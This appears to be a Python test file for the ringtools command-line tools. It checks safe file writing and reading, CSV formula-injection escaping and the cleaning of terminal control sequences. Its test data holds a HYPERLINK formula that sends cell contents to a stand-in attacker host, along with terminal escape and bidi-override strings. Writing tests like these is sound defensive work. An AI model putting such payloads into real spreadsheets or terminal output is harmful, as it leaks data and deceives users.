"""Files that the tools write and read: no link is written through, nothing is read without end, and one module alone writes."""

import ast
import os
import socket
import stat
import tempfile
import unittest
from pathlib import Path

from common import TOOLS, call, ring

from ringtools.cells import cell, read_cell, text_of_rows
from ringtools.files import PLAN, TABLE, FileProblem, read_input
from ringtools.shown import shown, shown_lines
from ringtools.tables import read_table
from ringtools.writing import WriteProblem, folder_of_file, named_folder, own_folder

IS_ROOT = os.geteuid() == 0


class Folders(unittest.TestCase):
    def setUp(self):
        folder = tempfile.TemporaryDirectory()
        self.addCleanup(folder.cleanup)
        self.top = Path(folder.name)
        self.victim = self.top / "victim"
        self.victim.write_text("mine")

    def inside(self, path: Path) -> set[str]:
        return {found.name for found in path.iterdir()}


class Written(Folders):
    def test_a_file_stands_whole_and_alone(self):
        folder = named_folder(self.top / "a" / "b")
        folder.write("x.txt", b"first")
        folder.write("x.txt", "zweites ü")
        self.assertEqual((self.top / "a" / "b" / "x.txt").read_text(encoding="utf-8"), "zweites ü")
        self.assertEqual(self.inside(self.top / "a" / "b"), {"x.txt"})

    def test_links_are_replaced_and_not_written_through(self):
        folder = named_folder(self.top / "out")
        os.symlink(self.victim, self.top / "out" / "table.csv")
        os.symlink(self.top / "nowhere", self.top / "out" / "page.html")
        os.link(self.victim, self.top / "out" / "hard.csv")
        for name in ("table.csv", "page.html", "hard.csv"):
            folder.write(name, b"ours")
            self.assertFalse((self.top / "out" / name).is_symlink())
            self.assertEqual((self.top / "out" / name).read_bytes(), b"ours")
        self.assertEqual(self.victim.read_text(), "mine")
        self.assertFalse((self.top / "nowhere").exists())

    def test_a_folder_that_is_a_link_is_refused(self):
        (self.top / "elsewhere").mkdir()
        (self.top / "out").symlink_to("elsewhere")
        for make in (named_folder, own_folder):
            with self.assertRaisesRegex(WriteProblem, "is a link to elsewhere, and nothing is written through links"):
                make(self.top / "out")
        folder = named_folder(self.top / "good")
        (self.top / "good" / "cases").symlink_to(self.top / "elsewhere")
        with self.assertRaisesRegex(WriteProblem, "is a link to"):
            folder.inside("cases")
        self.assertEqual(self.inside(self.top / "elsewhere"), set())

    def test_a_folder_that_becomes_a_link_is_refused_then(self):
        cases = named_folder(self.top / "out").inside("cases")
        (self.top / "elsewhere").mkdir()
        (self.top / "out" / "cases").rmdir()
        (self.top / "out" / "cases").symlink_to(self.top / "elsewhere")
        with self.assertRaises(WriteProblem):
            cases.write("x", b"")
        self.assertEqual(self.inside(self.top / "elsewhere"), set())

    def test_what_fails_leaves_what_was_there(self):
        folder = named_folder(self.top / "out")
        folder.write("x", b"before")
        with self.assertRaises(ZeroDivisionError), folder.writing("x") as file:
            file.write(b"half")
            raise ZeroDivisionError
        self.assertEqual(folder.read("x", 10), b"before")
        self.assertEqual(self.inside(self.top / "out"), {"x"})
        (self.top / "out" / "taken").mkdir()
        with self.assertRaisesRegex(WriteProblem, "taken: Is a directory"):
            folder.write("taken", b"")
        self.assertEqual(self.inside(self.top / "out"), {"x", "taken"})

    def test_a_new_file_replaces_none(self):
        (self.top / "link").symlink_to(self.top / "nowhere")
        folder, name = folder_of_file(self.top / "new.toml")
        folder.write_new(name, b"a plan")
        self.assertEqual((self.top / "new.toml").read_bytes(), b"a plan")
        for taken in ("new.toml", "link", "victim"):
            with self.assertRaisesRegex(WriteProblem, "is there, and is left alone"):
                folder.write_new(taken, b"other")
        self.assertEqual(self.inside(self.top), {"victim", "link", "new.toml"})

    def test_the_mask_and_the_mode_hold(self):
        before = os.umask(0o027)
        self.addCleanup(os.umask, before)
        folder = named_folder(self.top / "out")
        folder.write("x", b"")
        folder.write_new("key", b"", mode=0o600)
        self.assertEqual([stat.S_IMODE((self.top / "out" / name).stat().st_mode) for name in ("x", "key")], [0o640, 0o600])

    def test_an_unasked_folder_is_ones_own(self):
        out = self.top / "out"
        out.mkdir()
        out.chmod(0o777)
        with self.assertRaisesRegex(WriteProblem, "can be written by everybody"):
            own_folder(out)
        named_folder(out).write("x", b"")
        if IS_ROOT:
            out.chmod(0o755)
            os.chown(out, 65534, 65534)
            with self.assertRaisesRegex(WriteProblem, "belongs to another user"):
                own_folder(out)

    def test_kept_files_are_read_as_files_alone(self):
        folder = named_folder(self.top / "out")
        os.mkfifo(self.top / "out" / "fifo")
        (self.top / "out" / "link").symlink_to(self.victim)
        folder.write("long", b"123456")
        self.assertEqual([folder.read(name, 5) for name in ("fifo", "link", "long", "none")], [None] * 4)
        self.assertEqual(folder.read("long", 6), b"123456")


class Read(Folders):
    def problem(self, name: object, limit=PLAN) -> str:
        with self.assertRaises(FileProblem) as found:
            read_input(str(name), limit)
        return str(found.exception)

    def test_a_plan_is_read_up_to_one_byte_more_than_it_may_have(self):
        long = self.top / "long"
        long.write_bytes(b"#" * (PLAN.bytes + 500))
        self.assertEqual(len(read_input(str(long))), PLAN.bytes + 1)

    def test_a_table_beyond_its_limit_is_refused(self):
        long = self.top / "long.csv"
        long.write_bytes(b"#" * (TABLE.bytes + 1))
        self.assertIn("longer than 4,194,304 bytes", self.problem(long, TABLE))

    def test_pipes_with_names_devices_and_sockets_end_in_a_line(self):
        os.mkfifo(self.top / "fifo")
        with socket.socket(socket.AF_UNIX) as made:
            made.bind(str(self.top / "socket"))
        self.assertIn("it is a pipe, and a file is wanted", self.problem(self.top / "fifo"))
        self.assertIn("it is a device, and a file is wanted", self.problem("/dev/zero"))
        self.assertIn("Is a directory", self.problem(self.top))
        self.assertIn("No such device or address", self.problem(self.top / "socket"))
        self.assertIn("no name of a file", self.problem("a\0b"))

    def test_each_tool_says_so_of_a_plan(self):
        os.mkfifo(self.top / "fifo.toml")
        tools = {
            "sdhring-explain": (),
            "sdhring-view": (),
            "sdhring-desk": (),
            "sdhring-now": ("--alarms", "/dev/null"),
            "sdhring-whatif": ("--kinds", "span"),
            "sdhring-availability": (ring("two-nodes")[0].with_suffix(".csv"),),
            "sdhring-report": ("--json",),
            "sdhring-capture": ("--node", "1", "--side", "east", "--rounds", "1:2"),
        }
        for tool, words in tools.items():
            for plan, why in ((self.top / "fifo.toml", b"it is a pipe"), ("/dev/zero", b"it is a device")):
                with self.subTest(tool=tool, plan=plan):
                    ended = call(tool, plan, *words, cwd=self.top, timeout=60)
                    self.assertIn(why, ended.stderr)
                    self.assertEqual((ended.returncode, ended.stderr.count(b"\n")), (1, 1))

    def test_a_pipe_of_the_shell_is_a_file_too(self):
        read, write = os.pipe()
        os.write(write, ring("span-cut")[0].read_bytes())
        os.close(write)
        self.addCleanup(os.close, read)
        self.assertEqual(read_input(f"/dev/fd/{read}"), ring("span-cut")[0].read_bytes())


class Cells(Folders):
    FORMULAS = ("=1+1", "+1-1", "-1-1", "@SUM(A1)", "'=1", "''@x", "\uff1dcmd", '=HYPERLINK("http://evil.example/?"&A2;"click")', "+x", "-x")
    TEXTS = ("", "-", "+", "=", "c1", "'", "'a", "a=b", "1-2", "Köln", "a, b", 'say "so"')
    NUMBERS = ("-1", "+2", "-1.5", "+3e5", "-1,5", 0, -3, 2.5, None)

    def test_no_cell_is_a_formula(self):
        for text in self.FORMULAS:
            self.assertEqual(cell(text), f"'{text}")

    def test_what_is_none_stands_as_it_is(self):
        for value in (*self.TEXTS, *self.NUMBERS):
            self.assertEqual(cell(value), value)

    def test_it_is_read_as_it_was_written(self):
        file = self.top / "t.csv"
        for text in (*self.FORMULAS, *self.TEXTS):
            self.assertEqual(read_cell(cell(text)), text)
            file.write_text(text_of_rows([["name", "other"], [text, "x"]]), encoding="utf-8")
            table = read_table(str(file), ("name", "other"), ("name",))
            self.assertEqual(table.rows[0]["name"], text)
            self.assertEqual(table.freed, [cell(text)] if text in self.FORMULAS else [])

    def test_an_apostrophe_that_is_no_part_of_a_text_is_told(self):
        """A spreadsheet puts it before a text that begins like a formula, and another's table may have it too."""
        file = self.top / "t.csv"
        file.write_text("name,from\n'+49 Net,'Bonn\n'-x,1\n", encoding="utf-8")
        table = read_table(str(file), ("name", "from"), ("name",))
        self.assertEqual([(row["name"], row["from"]) for row in table.rows], [("+49 Net", "'Bonn"), ("-x", "1")])
        self.assertEqual(table.notes(), [f"{file}: read without the apostrophe before a formula's sign: '+49 Net, '-x"])


class Shown(unittest.TestCase):
    def test_no_sign_that_a_terminal_obeys(self):
        hostile = "\x1b]0;OWNED\x07 \x1b[2J \x9b31m \u202eevil \u2066x \r\b\x7f a\nb \udc80 \u2028"
        text = shown(hostile)
        self.assertTrue(text.isprintable())
        self.assertEqual(len(text), len(hostile))
        self.assertEqual(shown("Köln – Łódź → 北京"), "Köln – Łódź → 北京")

    def test_lines_of_a_message_are_set_in(self):
        self.assertEqual(shown_lines("a\n  b\nsdhring: all is good"), "a\n  b\N{REPLACEMENT CHARACTER}sdhring: all is good")


class House(unittest.TestCase):
    """One module alone writes files and makes folders; another alone reads what may be anybody's."""

    WRITERS = {"writing.py", "rows.py"}  # the rows write to /dev/full, to see what becomes of that
    READERS = {"files.py", "writing.py"}
    WRITING = {"write_text", "write_bytes", "mkdir", "makedirs", "unlink", "rename", "replace_file", "symlink_to", "symlink", "hardlink_to", "link", "touch", "rmtree", "rmdir", "chmod", "truncate"}

    def modules(self):
        for path in sorted([*(TOOLS / "ringtools").rglob("*.py"), *TOOLS.iterdir()]):
            if path.is_file() and (path.suffix == ".py" or b"python3" in path.read_bytes()[:60]):
                yield path, ast.parse(path.read_text(encoding="utf-8"))

    def calls(self, tree):
        for node in ast.walk(tree):
            if isinstance(node, ast.Call):
                function = node.func
                yield node, function.attr if isinstance(function, ast.Attribute) else getattr(function, "id", "")

    def mode(self, call: ast.Call, place: int) -> str:
        given = [argument.value for argument in call.args[place : place + 1] if isinstance(argument, ast.Constant)]
        given += [word.value.value for word in call.keywords if word.arg == "mode" and isinstance(word.value, ast.Constant)]
        return str(given[0]) if given else "r"

    def test_one_module_writes(self):
        found = []
        for path, tree in self.modules():
            for node, name in self.calls(tree):
                place = 0 if isinstance(node.func, ast.Attribute) else 1
                opens = name in ("open", "fdopen") and set(self.mode(node, place)) & set("wax+")
                in_memory = any(word.arg == "fileobj" for word in node.keywords)
                is_method = isinstance(node.func, ast.Attribute)
                if (opens and not in_memory or is_method and name in self.WRITING) and path.name not in self.WRITERS:
                    found.append(f"{path.name}:{node.lineno}: {name}")
        self.assertEqual("\n".join(found), "")

    def test_csv_is_written_by_one_module(self):
        for path, tree in self.modules():
            names = {name for _, name in self.calls(tree)}
            if path.name != "cells.py":
                self.assertFalse({"writer", "DictWriter"} & names, path.name)

    def test_standard_error_is_written_by_one_function(self):
        for path, tree in self.modules():
            if path.name not in ("shown.py", "starting.py", "progress.py", "benching.py", "test", "rows", "release", "install", "releasing.py"):
                text = ast.unparse(tree)
                self.assertNotIn("sys.stderr.write", text, path.name)
                self.assertNotIn("file=sys.stderr", text, path.name)


if __name__ == "__main__":
    unittest.main()
